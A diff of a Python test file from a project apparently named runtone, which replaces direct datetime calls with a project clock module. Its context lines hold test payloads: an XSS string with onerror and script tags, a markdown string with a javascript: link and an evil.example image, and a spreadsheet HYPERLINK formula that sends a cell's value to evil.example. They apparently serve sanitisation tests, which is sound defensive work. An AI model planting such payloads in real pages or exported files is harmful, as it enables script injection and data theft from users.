@@ -6,18 +6,19 @@ import csv
 import io
 import zipfile
 from collections.abc import Iterator
-from datetime import UTC, datetime, timedelta
+from datetime import timedelta
 from pathlib import Path
 from xml.sax.saxutils import escape
 
 import pytest
 
+from runtone import clock
 from runtone.library import Library
 from runtone.sharing.snapshot import PARTS
 from tests.browser.conftest import Visitor, served
 from tests.library.recordings import InventedRun, fit_file, gpx_file
 
-START = datetime.now(UTC).replace(microsecond=0) - timedelta(days=2)
+START = clock.now().replace(microsecond=0) - timedelta(days=2)
 SCRIPT = '<img src=x onerror="window.pwned=1"><script>window.pwned=1</script>'
 MARKDOWN = "[click](javascript:window.pwned=1) **LOUD** ![](http://evil.example/i.png) :red[red] $\\frac{1}{2}$"
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
